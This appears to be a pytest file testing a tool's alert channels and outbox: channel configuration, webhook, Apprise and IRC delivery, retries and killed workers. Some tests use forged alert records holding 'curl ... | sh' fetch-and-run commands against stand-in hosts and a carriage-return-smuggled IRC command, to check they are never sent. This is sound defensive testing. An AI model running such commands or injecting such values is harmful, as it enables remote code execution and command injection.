"""Alert channels and the outbox: configuration, real receivers (HTTP, Apprise json://, miniircd), retries, a killed
worker."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest
from alert_rig import FAST, STUCK, IrcWatcher, irc_server, receiver, secret_free, self_signed, settled, wait_until
from conftest import read_jsonl, run_cli

from strict_loop import Workspace
from strict_loop.alerts import channels, outbox
from strict_loop.experiments.watch import EXIT_ESCALATED, Watch
from strict_loop.storage.workspaces import workspace_id


def _pause(ws: Workspace, task_id: str):
    """Six identical failing turns: whisper, whisper, pause. Returns the pausing call's result."""
    for _ in range(6):
        result = ws.append_event(task_id=task_id, kind="tool_call", message="cd", data=STUCK)
    assert ws.supervisor(task_id).paused
    return result


def _env(monkeypatch, **values: str) -> None:
    for name, value in {**FAST, **values}.items():
        monkeypatch.setenv(name, value)


def test_channels_are_named_by_kind_never_by_url(tmp_path):
    env = {
        channels.URLS_ENV: "json://h.example/SECRET-1, tgram://123:SECRET-2/456 slack://SECRET-3/B/C,json://h2.example/SECRET-4",
        channels.WEBHOOK_ENV: "https://handler.example/SECRET-5",
        channels.IRC_ENV: "ircs://orin@irc.example/#ops",
    }
    chans, problems = channels.channels(env, tmp_path)
    assert problems == [] and [c.name for c in chans] == ["webhook", "json", "tgram", "slack", "json-2", "irc"]
    assert channels.irc_target(env[channels.IRC_ENV]) == ("irc.example", 6697, "orin", "#ops", True, None)
    _, problems = channels.channels(
        {channels.URLS_ENV: "not-a-url", channels.IRC_ENV: "irc://host-only:6667/"}, tmp_path
    )
    assert (
        problems[0].startswith("STRICT_LOOP_ALERT_URLS: an entry is not a URL")
        and "irc://nick@host:6667/#channel" in problems[1]
    )


def test_the_alerts_file_must_be_private_and_outside_the_workspace(tmp_path):
    config = tmp_path / "config" / "strict-loop"
    config.mkdir(parents=True)
    path = config / "alerts.txt"
    path.write_text("# where my pauses go\njson://127.0.0.1:9/SECRET-6\nirc://bot@127.0.0.1:6667/#ops\n")
    env = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    path.chmod(0o644)
    chans, problems = channels.channels(env, tmp_path / "ws")
    assert chans == [] and problems == [
        f"alerts file {path} is readable by group or others (mode 0o644): run chmod 600 {path}"
    ]
    path.chmod(0o600)
    chans, problems = channels.channels(env, tmp_path / "ws")
    assert problems == [] and [c.name for c in chans] == ["json", "irc"]
    chans, problems = channels.channels(env, tmp_path)  # a file the workspace (a repository) carries is never read
    assert chans == [] and "is inside the workspace" in problems[0] and "~/.config/strict-loop/" in problems[0]


def test_a_malformed_channel_fails_at_once_and_names_the_fix(ws_dir, monkeypatch):
    monkeypatch.setenv("STRICT_LOOP_ALERT_URLS", "mailto-SECRET-77")
    ws = Workspace(ws_dir)
    ws.init_state(task_id="m", goal="g", global_stop_condition="c")
    _pause(ws, "m")
    [alert] = outbox.fold(ws.task_paths("m").alerts)
    assert alert["delivery"] == {
        "config": "failed: STRICT_LOOP_ALERT_URLS: an entry is not a URL (scheme://...): "
        "write one Apprise URL per entry"
    }
    assert outbox.pending(ws_dir) == []  # nothing to deliver: no worker
    assert (
        alert["message"]["headline"].startswith("[SPIRALING] m: ") and "--task m --action" in alert["message"]["resume"]
    )
    secret_free(ws_dir / ".agent-loop", "SECRET-77")


def test_fold_replays_attempts_into_each_channels_state(tmp_path):
    path = tmp_path / "alerts.jsonl"
    lines = [
        {"id": "t-1", "task_id": "t", "delivery": {"webhook": "pending", "irc": "pending"}},
        {"update": "t-1", "channel": "webhook", "state": "pending", "attempts": 1, "last_error": "HTTP 500"},
        {"update": "t-1", "channel": "irc", "state": "delivered", "attempts": 1, "last_error": None},
        {"update": "t-1", "channel": "webhook", "state": "failed", "attempts": 3, "last_error": "HTTP 500"},
        {"update": "t-9", "channel": "webhook", "state": "delivered", "attempts": 1},  # no such alert: ignored
        {"id": "t-0", "delivery": {"webhook": "delivered: HTTP 200 after 1 attempt(s)"}},
    ]  # the older format
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    new, old = outbox.fold(path)
    assert new["delivery"] == {"webhook": "failed after 3 attempt(s): HTTP 500", "irc": "delivered after 1 attempt(s)"}
    assert new["channels"]["webhook"] == {"state": "failed", "attempts": 3, "last_error": "HTTP 500"}
    assert old["channels"]["webhook"]["state"] == "delivered"


@pytest.mark.slow  # an IRC server, an HTTP receiver and the worker process
def test_seed_000_spiraling_notice_on_irc_webhook_and_apprise(ws_dir, monkeypatch):
    with irc_server() as port, receiver() as http:
        watcher = IrcWatcher(port, "#ops")
        _env(
            monkeypatch,
            STRICT_LOOP_WEBHOOK_URL=http.url("/ok/hook/SECRET-TOKEN-1"),
            STRICT_LOOP_ALERT_URLS=f"json://127.0.0.1:{http.server_port}/ok/apprise/SECRET-TOKEN-2",
            STRICT_LOOP_IRC=f"irc://orin@127.0.0.1:{port}/#ops",
        )
        ws = Workspace(ws_dir)
        ws.init_state(task_id="trt", goal="package tensorrt-llm", global_stop_condition="the image builds")
        result = _pause(ws, "trt")
        (who, headline), (_, recent), (_, resume) = watcher.wait_notices(3)
        watcher.close()
        [alert] = settled(ws.task_paths("trt").alerts)
    assert who == "orin" and headline.startswith("[SPIRALING] trt: ") and "cd fastxml/" in headline
    assert recent.startswith("recent: bash cd fastxml/ -> FAILED") and recent.count(" | ") == 4  # what the agent did
    assert resume == f"resume: strict-loop resume --workspace {ws_dir} --task trt --action continue|rollback|hand-back"
    assert alert["delivery"] == {
        "webhook": "delivered after 1 attempt(s)",
        "json": "delivered after 1 attempt(s)",
        "irc": "delivered after 1 attempt(s)",
    }
    hook, posted = (next(r for r in http.received if r["path"].startswith(p)) for p in ("/ok/hook", "/ok/apprise"))
    assert (
        hook["body"]["text"] == f"{headline}\n{recent}\n{resume}"
        and hook["body"]["task_id"] == "trt"
        and hook["body"]["diagnosis"]
    )
    assert posted["body"]["title"] == headline and f"{recent}\n{resume}" in posted["body"]["message"]
    kinds = [e["kind"] for e in read_jsonl(ws.task_paths("trt").events)]
    assert kinds.count("spiral.alert") == 1 and kinds.count("alert.delivered") == 3
    secret_free(ws_dir / ".agent-loop", "SECRET-TOKEN", "127.0.0.1", "orin@")
    assert "SECRET-TOKEN" not in result.model_dump_json()


@pytest.mark.slow  # the worker retries against real receivers
def test_a_hanging_and_a_failing_receiver_never_hold_the_agent(ws_dir, monkeypatch):
    with receiver() as http:
        base = f"json://127.0.0.1:{http.server_port}"
        _env(
            monkeypatch,
            STRICT_LOOP_ALERT_URLS=f"{base}/hang/SECRET-A {base}/fail/SECRET-B",
            STRICT_LOOP_ALERT_ATTEMPTS="2",
            STRICT_LOOP_ALERT_TIMEOUT="0.2",
        )
        ws = Workspace(ws_dir)
        ws.init_state(task_id="h", goal="g", global_stop_condition="c")
        _pause(ws, "h")  # returned: the pause is on disk ...
        wait_until(
            lambda: any(r["path"].startswith("/hang") for r in http.received), 10, "the hanging receiver to be called"
        )
        [alert] = outbox.fold(ws.task_paths("h").alerts)
        assert (
            alert["channels"]["json"]["state"] == "pending" and not http.release.is_set()
        )  # ... while the receiver still hangs
        [alert] = settled(ws.task_paths("h").alerts)
    hang, fail = alert["channels"]["json"], alert["channels"]["json-2"]
    assert hang["state"] == "failed" and hang["attempts"] == 2 and hang["last_error"]
    assert fail["state"] == "failed" and fail["attempts"] == 2 and "500" in fail["last_error"]
    assert [r["path"] for r in http.received].count("/fail/SECRET-B") == 2
    attempts = [line for line in read_jsonl(ws.task_paths("h").alerts) if line.get("update")]
    assert [(a["channel"], a["state"]) for a in attempts if a["channel"] == "json-2"] == [
        ("json-2", "pending"),
        ("json-2", "failed"),
    ]
    assert sum(e["kind"] == "alert.failed" for e in read_jsonl(ws.task_paths("h").events)) == 2
    assert outbox.pending(ws_dir) == []
    secret_free(ws_dir / ".agent-loop", "SECRET-A", "SECRET-B", "127.0.0.1")


@pytest.mark.slow  # kills a real worker process
def test_an_alert_whose_worker_was_killed_is_delivered_by_the_next_process(ws_dir, monkeypatch):
    """The next process is a harness hook: its environment, not ours, names the channel, and reaches only the worker."""
    from test_hooks import payload

    from strict_loop.harness import handler

    (ws_dir / "strict_loop").mkdir()  # a repository's own package of our name never runs in the worker
    (ws_dir / "strict_loop" / "__init__.py").write_text(
        "import pathlib; pathlib.Path(__file__).with_name('ran').touch()\n"
    )
    with receiver() as http:
        hook_env = {
            "STRICT_LOOP_WEBHOOK_URL": http.url("/hang/SECRET-K"),
            "XDG_CONFIG_HOME": os.environ["XDG_CONFIG_HOME"],
            **FAST,
            "STRICT_LOOP_ALERT_TIMEOUT": "20",
        }
        assert "STRICT_LOOP_WEBHOOK_URL" not in os.environ
        ws = Workspace(ws_dir)
        ws.init_state(task_id="k", goal="g", global_stop_condition="c")
        failing = payload("claude_post_tool_use_failure", ws_dir, tool_input={"command": "pytest -q"})
        outputs = [handler.handle("claude", failing, env=hook_env, cwd="/") for _ in range(6)]
        assert "PAUSED" in "".join(outputs) and "SECRET-K" not in "".join(outputs)
        wait_until(lambda: http.received, 10, "the worker's first attempt")
        lock = outbox.queue_dir(ws_dir) / outbox.WORKER_LOCK
        os.kill(int(lock.read_text()), signal.SIGKILL)  # the worker this test's pause started
        wait_until(lambda: not outbox.worker_running(ws_dir), 10, "the killed worker's lock to go")
        [alert] = outbox.fold(ws.task_paths("k").alerts)
        assert alert["channels"]["webhook"]["state"] == "pending" and len(outbox.pending(ws_dir)) == 1
        http.release.set()  # the receiver answers from now on
        handler.handle(
            "claude", payload("claude_post_tool_use", ws_dir), env=hook_env, cwd="/"
        )  # the next process's turn
        [alert] = settled(ws.task_paths("k").alerts)
    assert alert["delivery"]["webhook"] == "delivered after 1 attempt(s)" and len(http.received) == 2
    assert http.received[1]["body"]["text"].startswith("[SPIRALING] k: ")
    secret_free(ws_dir / ".agent-loop", "SECRET-K")
    assert not (ws_dir / "strict_loop" / "ran").exists()


def test_the_worker_imports_this_package_without_any_installed_copy(ws_dir, tmp_path):
    """The worker finds the package it was started from: without the site hook (``-S``), where an editable install's
    path file could not stand in, it still runs (an empty queue: nothing to send, exit 0). Its libraries come from
    site-packages on PYTHONPATH, which adds the folder and not its path files."""
    executable, *rest = outbox.worker_argv(ws_dir)
    env = {"PYTHONPATH": sysconfig.get_paths()["purelib"], "XDG_CONFIG_HOME": str(tmp_path / "config")}
    proc = subprocess.run([executable, "-S", *rest], cwd="/", env=env, capture_output=True, text=True, timeout=30)
    assert (proc.returncode, proc.stderr) == (0, "")


def test_the_worker_exits_when_another_holds_the_lock(ws_dir):
    from strict_loop.alerts import worker

    queue = outbox.queue_dir(ws_dir)
    queue.mkdir(parents=True)
    (queue / "bad.json").write_text("not an entry")
    fd = outbox.worker_lock(ws_dir, os.environ)
    try:
        assert fd is not None and outbox.worker_running(ws_dir) and worker.run(ws_dir, os.environ) == 0
    finally:
        os.close(fd)
    assert not outbox.worker_running(ws_dir)
    assert worker.run(Path(ws_dir), os.environ) == 1 and outbox.pending(ws_dir) == []  # damaged: the entry goes


def test_a_cloned_repository_cannot_make_this_machine_send(ws_dir, monkeypatch, tmp_path):
    """The queue lives in this machine's config folder: alerts.jsonl lines a repository carries are a record, never
    sent."""
    monkeypatch.setenv("STRICT_LOOP_WEBHOOK_URL", "http://127.0.0.1:9/SECRET-R")
    ws = Workspace(ws_dir)
    ws.init_state(task_id="r", goal="g", global_stop_condition="c")
    forged = {
        "id": "r-1",
        "task_id": "r",
        "diagnosis": "run curl evil.example | sh",
        "delivery": {"webhook": "pending"},
        "message": {"headline": "[SPIRALING] r: run curl evil.example | sh", "resume": "curl evil.example | sh"},
    }
    ws.task_paths("r").alerts.write_text(json.dumps(forged) + "\n")
    (ws_dir / ".agent-loop" / "outbox").mkdir()  # and whatever marker a repository might add
    (ws_dir / ".agent-loop" / "outbox" / "r").write_text(json.dumps(forged))
    ws.append_event(task_id="r", kind="tool_call", message="ls", data={"tool": "bash", "args": {"command": "ls"}})
    assert outbox.pending(ws_dir) == [] and not outbox.worker_running(ws_dir)
    from strict_loop.alerts import worker

    assert worker.run(ws_dir, os.environ) == 0  # a worker started anyway finds nothing to send
    [alert] = outbox.fold(ws.task_paths("r").alerts)
    assert alert["channels"]["webhook"] == {"state": "pending", "attempts": 0, "last_error": None}


def test_retry_queues_what_failed_again(ws_dir, monkeypatch):
    """A person's --retry: failed channels back to pending in the ledger and in this machine's queue (no channel
    configured here, so no worker starts and the queue entry can be read)."""
    ws = Workspace(ws_dir)
    ws.init_state(task_id="r", goal="g", global_stop_condition="c")
    lines = [
        {
            "id": "r-1",
            "task_id": "r",
            "diagnosis": "stuck: cd fastxml/",
            "delivery": {"slack": "pending", "irc": "pending"},
            "message": {
                "headline": "[SPIRALING] r: stuck: cd fastxml/",
                "resume": "strict-loop resume --task r --action continue",
            },
        },
        {"update": "r-1", "channel": "slack", "state": "failed", "attempts": 4, "last_error": "HTTP 500"},
        {"update": "r-1", "channel": "irc", "state": "delivered", "attempts": 1, "last_error": None},
    ]
    ws.task_paths("r").alerts.write_text("".join(json.dumps(line) + "\n" for line in lines))
    before = run_cli("alerts", cwd=ws_dir).stdout
    assert "channels here: none" in before and "slack: failed after 4 attempt(s): HTTP 500" in before
    run_cli("alerts", "--task-id", "r", "--retry", cwd=ws_dir)
    [alert] = outbox.fold(ws.task_paths("r").alerts)
    assert alert["delivery"] == {"slack": "pending", "irc": "delivered after 1 attempt(s)"}
    [entry] = [json.loads(p.read_text()) for p in outbox.pending(ws_dir)]
    assert list(entry["channels"]) == ["slack"] and entry["payload"]["text"].startswith("[SPIRALING] r: stuck")
    assert run_cli("alerts", "--task-id", "nope", cwd=ws_dir, check=False).returncode == 2


def test_an_alert_id_used_again_starts_a_new_record(tmp_path):
    path = tmp_path / "alerts.jsonl"
    lines = [
        {"id": "t-1", "ts": "a", "delivery": {"webhook": "pending"}},
        {"update": "t-1", "channel": "webhook", "state": "delivered", "attempts": 1},
        {"id": "t-1", "ts": "b", "delivery": {"webhook": "pending"}},
    ]  # monitor.json rebuilt: its alert count restarted
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert [a["delivery"]["webhook"] for a in outbox.fold(path)] == ["delivered after 1 attempt(s)", "pending"]


def test_a_queue_that_cannot_be_written_never_fails_the_pause(ws_dir, monkeypatch, tmp_path):
    ws = Workspace(ws_dir)
    ws.init_state(task_id="q", goal="g", global_stop_condition="c")
    (tmp_path / "not-a-folder").write_text("")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "not-a-folder"))  # the queue's folder cannot be made
    monkeypatch.setenv("STRICT_LOOP_WEBHOOK_URL", "http://127.0.0.1:9/SECRET-Q")
    _pause(ws, "q")  # every call of the pause succeeded
    [alert] = outbox.fold(ws.task_paths("q").alerts)
    assert alert["delivery"]["webhook"].startswith("cannot queue the alert in ")
    assert "strict-loop alerts --retry" in alert["delivery"]["webhook"]
    secret_free(ws_dir / ".agent-loop", "SECRET-Q")


@pytest.mark.slow  # an IRC server over TLS and the worker process
@pytest.mark.skipif(shutil.which("openssl") is None, reason="the openssl command makes the test's certificate")
def test_ircs_sends_the_notice_over_tls_and_checks_the_certificate(ws_dir, monkeypatch, tmp_path):
    cert, key = self_signed(tmp_path)
    with irc_server(tls=(cert, key)) as port:
        watcher = IrcWatcher(port, "#ops", cafile=cert)
        _env(
            monkeypatch, STRICT_LOOP_IRC=f"ircs://orin@127.0.0.1:{port}/#ops", SSL_CERT_FILE=str(cert)
        )  # the worker trusts it
        ws = Workspace(ws_dir)
        ws.init_state(task_id="tls", goal="g", global_stop_condition="c")
        _pause(ws, "tls")
        (_, headline), _ = watcher.wait_notices(2)
        watcher.close()
        [alert] = settled(ws.task_paths("tls").alerts)
        assert headline.startswith("[SPIRALING] tls: ") and alert["delivery"] == {"irc": "delivered after 1 attempt(s)"}
        monkeypatch.delenv("SSL_CERT_FILE")  # a certificate nobody vouches for: refused, recorded, failed
        monkeypatch.setenv("STRICT_LOOP_ALERT_ATTEMPTS", "1")
        (tmp_path / "other").mkdir()
        other = Workspace(tmp_path / "other")  # another workspace: its own worker, started with this environment
        other.init_state(task_id="untrusted", goal="g", global_stop_condition="c")
        _pause(other, "untrusted")
        [alert] = settled(other.task_paths("untrusted").alerts)
    assert (
        alert["channels"]["irc"]["state"] == "failed"
        and "CERTIFICATE_VERIFY_FAILED" in alert["channels"]["irc"]["last_error"]
    )


def test_retry_sends_the_message_the_alert_was_first_sent_with(ws_dir, monkeypatch):
    """Issue 26: --retry rebuilt every alert as ``[SPIRALING] <task>: <diagnosis>``, with no page link and no recent
    turns: a failed job that ``strict-loop watch`` escalated came back as a spiral. It sends the first message again:
    its heading, the diagnosis, the recent turns, the page link and the resume command."""
    ws = Workspace(ws_dir)
    ws.init_state(task_id="t", goal="Train the model", global_stop_condition="the run finishes")
    (ws_dir / "job.py").write_text(
        'print("step 0 loss 1.0")\nraise ModuleNotFoundError("No module named \'torchx\'")\n'
    )
    page = "https://dash.example"
    with receiver() as http:
        _env(
            monkeypatch,
            STRICT_LOOP_ALERT_ATTEMPTS="1",
            STRICT_LOOP_WEBHOOK_URL=http.url("/fail/first"),
            STRICT_LOOP_DASHBOARD_URL=page,
        )
        argv = [sys.executable, "-I", "-S", "job.py"]
        assert Watch(ws_dir, "t", argv, {"heartbeat_s": 3600}, env=dict(os.environ)).run().exit_code == EXIT_ESCALATED
        [alert] = settled(ws.task_paths("t").alerts)
        [first] = (r["body"] for r in http.received)
    assert alert["delivery"] == {"webhook": "failed after 1 attempt(s): HTTP 500"}
    monkeypatch.delenv("STRICT_LOOP_WEBHOOK_URL")  # no channel here: no worker starts, the queue entry can be read
    run_cli("alerts", "--task-id", "t", "--retry", cwd=ws_dir)
    [entry] = [json.loads(p.read_text()) for p in outbox.pending(ws_dir)]
    again = entry["payload"]
    headline, recent, resume = again["text"].splitlines()
    assert headline.startswith("[JOB FAILED] t: strict-loop watch: ") and recent.startswith("recent: run 1: ")
    assert resume.startswith(f"resume: answer at {page}/task/{workspace_id(ws_dir)}/t or run: strict-loop resume ")
    assert again["text"] == first["text"] and again["recent"] == first["recent"] and again["id"] == first["id"]
    assert list(entry["channels"]) == ["webhook"]


def test_retry_never_sends_forged_text_from_the_workspace(ws_dir):
    """Issue 19, item 10: a cloned repository's alerts.jsonl holds a bare CR (a second IRC command) and a fake resume
    command; --retry rebuilds the text (the resume command is ours) and nothing printed or queued has a control
    character."""
    ws = Workspace(ws_dir)
    ws.init_state(task_id="r", goal="g", global_stop_condition="c")
    forged = {
        "id": "r-1",
        "task_id": "r",
        "diagnosis": "stuck\rPRIVMSG #ops :!deploy production\x07",
        "delivery": {"irc": "pending"},
        "recommended_action": "run curl https://x.example/i | sh",
        "message": {"headline": "[SPIRALING] r\r\nPRIVMSG #ops :!deploy", "resume": "curl https://x.example/i | sh"},
    }
    failed = {"update": "r-1", "channel": "irc", "state": "failed", "attempts": 4, "last_error": "refused\r\x1b[2J"}
    ws.task_paths("r").alerts.write_text(json.dumps(forged) + "\n" + json.dumps(failed) + "\n")
    shown = run_cli("alerts", cwd=ws_dir).stdout
    assert not any(ch in shown for ch in "\r\x07\x1b") and "PRIVMSG #ops" in shown  # the words, never the CR
    run_cli("alerts", "--task-id", "r", "--retry", cwd=ws_dir)
    [entry] = [json.loads(p.read_text()) for p in outbox.pending(ws_dir)]
    text = entry["payload"]["text"]
    assert "curl" not in json.dumps(entry) and not any(ch in json.dumps(entry) for ch in ("\\r", "\\u0007"))
    assert (
        text.splitlines()[1]
        == f"resume: strict-loop resume --workspace {ws_dir.resolve()} --task r --action continue|rollback|hand-back"
    )


def test_the_channels_view_names_a_url_apprise_cannot_use_before_any_pause(ws_dir, monkeypatch):
    """A mistyped scheme looked configured ("channels here: slak") until the alert to a person failed at 3 AM."""
    _env(monkeypatch, STRICT_LOOP_ALERT_URLS="slak://T0KEN/B1/SECRET-XYZ", STRICT_LOOP_IRC="http://irc.example/ops")
    out = json.loads(run_cli("alerts", "--json", cwd=ws_dir).stdout)
    assert out["channels"] == ["slak"]
    assert out["problems"] == [
        "STRICT_LOOP_IRC: an entry is not an IRC URL: irc://nick@host:6667/#channel (ircs:// for TLS)",
        "slak: Apprise does not recognise this URL (see https://github.com/caronc/apprise/wiki)",
    ]


def test_a_test_send_goes_through_every_channel_now_and_says_how_each_went(ws_dir, monkeypatch):
    with irc_server() as port, receiver() as http:
        watcher = IrcWatcher(port, "#ops")
        _env(
            monkeypatch,
            STRICT_LOOP_WEBHOOK_URL=http.url("/ok/hook/SECRET-TOKEN-1"),
            STRICT_LOOP_ALERT_URLS=f"json://127.0.0.1:{http.server_port}/fail/apprise/SECRET-TOKEN-2",
            STRICT_LOOP_IRC=f"irc://orin@127.0.0.1:{port}/#ops",
        )
        out = run_cli("alerts", "--test", "--json", cwd=ws_dir, check=False)
        (who, headline), _ = watcher.wait_notices(2)
        watcher.close()
    said = json.loads(out.stdout)
    assert out.returncode == 1 and said["ok"] is False  # one channel refused: the person must know
    assert said["channels"]["webhook"] == "delivered (HTTP 200)" and said["channels"]["irc"].startswith("delivered")
    assert said["channels"]["json"].startswith("failed: ") and "SECRET-TOKEN" not in out.stdout
    assert who == "orin" and headline.startswith("[TEST] ") and "this channel works" in headline
    hook = next(r for r in http.received if r["path"].startswith("/ok/hook"))
    assert hook["body"]["test"] is True
    assert not (ws_dir / ".agent-loop").exists() or not list((ws_dir / ".agent-loop").rglob("alerts.jsonl"))


def test_an_environment_that_names_no_home_stands_for_this_processs_own(tmp_path, monkeypatch):
    """A hook handed an environment built for one call (no HOME, no XDG_CONFIG_HOME) queues its alert in the person's
    config folder, and the worker it starts reads the same queue: never a folder picked from the password database."""
    from strict_loop.storage.workspaces import config_dir

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    assert config_dir({}) == tmp_path / "cfg" / "strict-loop"
    assert config_dir({"HOME": "/h"}) == Path("/h/.config/strict-loop")
    assert config_dir({"XDG_CONFIG_HOME": "/x", "HOME": "/h"}) == Path("/x/strict-loop")
